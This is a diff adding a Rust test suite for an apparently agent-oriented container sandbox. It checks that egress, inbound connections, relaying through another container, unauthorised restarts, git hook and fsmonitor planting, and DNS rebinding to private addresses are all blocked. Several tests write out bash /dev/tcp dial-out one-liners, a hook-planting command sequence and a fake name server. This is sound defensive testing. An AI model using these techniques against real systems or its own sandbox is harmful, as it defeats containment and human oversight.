@@ -1,0 +1,302 @@
+//! Attempts that take more than a program inside: something done to the container from outside, or a setting of its own.
+
+use agentcontainer_tests::attempt::Line;
+use agentcontainer_tests::docker::{self, Plain};
+use agentcontainer_tests::place::token;
+use agentcontainer_tests::receiver::Receiver;
+use agentcontainer_tests::{Workspace, rig};
+use serde_json::json;
+
+fn record(id: &str, title: &str, layer: &str) {
+    let line = Line {
+        id: id.into(),
+        title: title.into(),
+        control: "works".into(),
+        outcome: "stopped".into(),
+        layer: layer.into(),
+    };
+    line.record();
+}
+
+/// A shell command that dials the receiver by its raw address and says a word.
+fn dial(receiver: &Receiver, word: &str) -> String {
+    format!(
+        "timeout 5 bash -c 'exec 3<>/dev/tcp/{}/{} && echo {word} >&3'",
+        receiver.address.ip(),
+        receiver.port()
+    )
+}
+
+/// The engine's name for the container of a session.
+fn container(session: &str) -> String {
+    let listed = docker::run(&["ps", "--all", "--format", "{{.ID}} {{.Names}} {{.Labels}}"]);
+    let line = listed
+        .lines()
+        .find(|line| line.contains(session))
+        .unwrap_or_else(|| panic!("no container of {session}: {listed}"));
+    line.split(' ').next().unwrap().to_owned()
+}
+
+#[test]
+fn c08_a_process_that_the_engine_execs_is_held_too() {
+    let receiver = Receiver::start();
+    let plain = Plain::start(&[], &["sleep", "300"]);
+    docker::attempt(&["exec", &plain.id, "sh", "-c", &dial(&receiver, "control")]);
+    assert!(receiver.hears(b"control"));
+    let (workspace, name) = (Workspace::new(), token("c8"));
+    let _session = workspace.session(&name);
+    let id = container(&name);
+    for user in ["0", "1000"] {
+        docker::attempt(&[
+            "exec",
+            "--user",
+            user,
+            &id,
+            "sh",
+            "-c",
+            &dial(&receiver, "governed"),
+        ]);
+        docker::attempt(&[
+            "exec",
+            "--privileged",
+            "--user",
+            user,
+            &id,
+            "sh",
+            "-c",
+            &dial(&receiver, "governed"),
+        ]);
+    }
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    assert!(!receiver.heard_bytes(b"governed"));
+    record(
+        "C08",
+        "foreign docker exec, privileged too",
+        "gate, empty network namespace",
+    );
+}
+
+#[test]
+fn n26_nobody_outside_can_dial_in() {
+    let plain = Plain::start(&[], &["nc", "-l", "-k", "-p", "7000"]);
+    let reach = |address: std::net::Ipv4Addr| {
+        (0..20).any(|_| {
+            std::thread::sleep(std::time::Duration::from_millis(100));
+            std::net::TcpStream::connect_timeout(
+                &(address, 7000).into(),
+                std::time::Duration::from_secs(1),
+            )
+            .is_ok()
+        })
+    };
+    assert!(reach(plain.address()));
+    let (workspace, name) = (Workspace::new(), token("n26"));
+    let session = workspace.session(&name);
+    session.inside("nc -l -k -p 7000 >/dev/null 2>&1 & sleep 0.2");
+    let networks = docker::run(&[
+        "inspect",
+        "--format",
+        "{{range .NetworkSettings.Networks}}[{{.IPAddress}}{{.GlobalIPv6Address}}]{{end}}{{json .HostConfig.PortBindings}}",
+        &container(&name),
+    ]);
+    assert!(
+        networks.starts_with("[]") && !networks.contains("HostPort"),
+        "{networks}"
+    );
+    record(
+        "N26",
+        "listen inside and be dialled from outside",
+        "empty network namespace",
+    );
+}
+
+#[test]
+fn c23_another_container_on_the_bridge_is_no_relay() {
+    let relay = Plain::start(&[], &["sh", "-c", "nc -l -k -p 7000 >/heard"]);
+    let heard = || docker::attempt(&["exec", &relay.id, "cat", "/heard"]).stdout;
+    let dial = |word: &str| {
+        format!(
+            "timeout 5 bash -c 'exec 3<>/dev/tcp/{}/7000 && echo {word} >&3'",
+            relay.address()
+        )
+    };
+    let plain = Plain::start(&[], &["sleep", "300"]);
+    let began = std::time::Instant::now();
+    while !heard().contains("control") {
+        assert!(began.elapsed().as_secs() < 20);
+        docker::attempt(&["exec", &plain.id, "sh", "-c", &dial("control")]);
+    }
+    Workspace::new().inside(&dial("governed"));
+    assert!(!heard().contains("governed"));
+    record(
+        "C23",
+        "another container on the bridge as a relay",
+        "gate, empty network namespace",
+    );
+}
+
+#[test]
+fn k05_lifecycle_commands_run_under_the_policy() {
+    let (receiver, host) = (Receiver::start(), format!("{}.test", token("k5")));
+    let good = format!(
+        "bash -c 'exec 3<>/dev/tcp/{host}/{} && echo by-name >&3'",
+        receiver.port()
+    );
+    let workspace = Workspace::new()
+        .allow(&[&format!("{host}:{}", receiver.port())])
+        .key(
+            "onCreateCommand",
+            json!(format!("{}; {good}", dial(&receiver, "by-address"))),
+        )
+        .key(
+            "postStartCommand",
+            json!(format!("{}; true", dial(&receiver, "by-address"))),
+        );
+    workspace.run(&["true"]).status(0);
+    assert!(receiver.hears(b"by-name") && !receiver.heard_bytes(b"by-address"));
+    record("K05", "lifecycle commands", "gate");
+}
+
+#[test]
+fn x07_a_container_started_without_us_never_runs_its_program() {
+    let (workspace, name) = (Workspace::new(), token("x7"));
+    workspace.write();
+    workspace
+        .cli(&[
+            "run",
+            "--yes",
+            "--detach",
+            "--name",
+            &name,
+            "--",
+            "sh",
+            "-c",
+            "echo ran >>runs; sleep 300",
+        ])
+        .status(0);
+    let id = container(&name);
+    let runs = || {
+        std::fs::read_to_string(workspace.path().join("runs"))
+            .unwrap_or_default()
+            .lines()
+            .count()
+    };
+    let began = std::time::Instant::now();
+    while runs() == 0 {
+        assert!(began.elapsed().as_secs() < 30, "the program does not start");
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    // Killed and started again by the engine, in the same cgroup, with nobody's leave: it waits for a challenge, and there is none.
+    docker::attempt(&["kill", &id]);
+    workspace.cli(&["stop", &name]);
+    if docker::attempt(&["start", &id]).status == 0 {
+        let status = docker::run(&["wait", &id]);
+        assert_eq!(status, "125");
+        docker::attempt(&["rm", "--force", &id]);
+    }
+    assert_eq!(runs(), 1);
+    record(
+        "X07",
+        "docker start without the enforcer's leave",
+        "init: no challenge",
+    );
+}
+
+#[test]
+fn x04_git_hooks_and_config_cannot_be_planted() {
+    let workspace = Workspace::new();
+    let git = |words: &str| {
+        let done = std::process::Command::new("sh")
+            .args(["-ec", words])
+            .current_dir(workspace.path())
+            .output()
+            .unwrap();
+        assert!(
+            done.status.success(),
+            "{}",
+            String::from_utf8_lossy(&done.stderr)
+        );
+    };
+    git(
+        "git init -q -b main . && echo x >file && git add file && git -c user.name=t -c user.email=t@t commit -qm first",
+    );
+    let before = std::fs::read_to_string(workspace.path().join(".git/config")).unwrap();
+    workspace.inside(
+        "mv .git .g2; git init -q . ; git config core.fsmonitor 'touch pwned; false'; git config --file .git/config core.fsmonitor 'touch pwned'
+         echo 'touch pwned' >.git/hooks/post-checkout; chmod +x .git/hooks/post-checkout; cp .git/config .git/config2; mv .git/config2 .git/config; true",
+    );
+    git("git status >/dev/null");
+    assert!(!workspace.path().join("pwned").exists());
+    assert_eq!(
+        std::fs::read_to_string(workspace.path().join(".git/config")).unwrap(),
+        before
+    );
+    assert!(
+        !workspace.path().join(".git/hooks/post-checkout").exists()
+            && !workspace.path().join(".g2").exists()
+    );
+    record("X04", "rename .git and plant hooks or fsmonitor", "mounts");
+}
+
+#[test]
+fn d05_a_name_that_leads_inside_is_refused_after_resolution() {
+    let (receiver, host) = (Receiver::start(), format!("{}.test", token("d5")));
+    let word = |word: &str| {
+        format!(
+            "timeout 20 bash -c 'exec 3<>/dev/tcp/{host}/{} && echo {word} >&3; read -t 5 -u 3 x'; true",
+            receiver.port()
+        )
+    };
+    let entry = format!("{host}:{}", receiver.port());
+    // The resolver answers with the bridge's address: private, so only where the host's configuration names that network.
+    let names = NameServer::start(rig().bridge);
+    let line = format!("resolver = \"{}:{}\"", rig().bridge, names.port);
+    let resolved = |workspace: Workspace| workspace.gateway_line(&line).allow_without_host(&entry);
+    resolved(Workspace::new()).inside(&word("control"));
+    assert!(receiver.hears(b"control"), "the control does not work");
+    resolved(Workspace::new().without_private_networks()).inside(&word("governed"));
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    assert!(!receiver.heard_bytes(b"governed"));
+    record(
+        "D05",
+        "an allowed name that resolves to a private address",
+        "gateway: address class",
+    );
+}
+
+/// A name server that answers every A query with one address.
+struct NameServer {
+    port: u16,
+}
+
+impl NameServer {
+    fn start(address: std::net::Ipv4Addr) -> Self {
+        let socket = std::net::UdpSocket::bind((rig().bridge, 0)).unwrap();
+        let port = socket.local_addr().unwrap().port();
+        std::thread::spawn(move || {
+            let mut buffer = [0; 2048];
+            while let Ok((count, from)) = socket.recv_from(&mut buffer) {
+                let Some(answer) = Self::answer(&buffer[..count], address) else {
+                    continue;
+                };
+                let _ = socket.send_to(&answer, from);
+            }
+        });
+        Self { port }
+    }
+
+    /// The question back, with one A record (or none, for other types), a second to live.
+    fn answer(query: &[u8], address: std::net::Ipv4Addr) -> Option<Vec<u8>> {
+        let end = 12 + query.get(12..)?.iter().position(|byte| *byte == 0)? + 5;
+        let question = query.get(12..end)?;
+        let found = question.ends_with(&[0, 1, 0, 1]);
+        let mut answer = query.get(..2)?.to_vec();
+        answer.extend([0x81, 0x80, 0, 1, 0, u8::from(found), 0, 0, 0, 0]);
+        answer.extend(question);
+        if found {
+            answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4]);
+            answer.extend(address.octets());
+        }
+        Some(answer)
+    }
+}
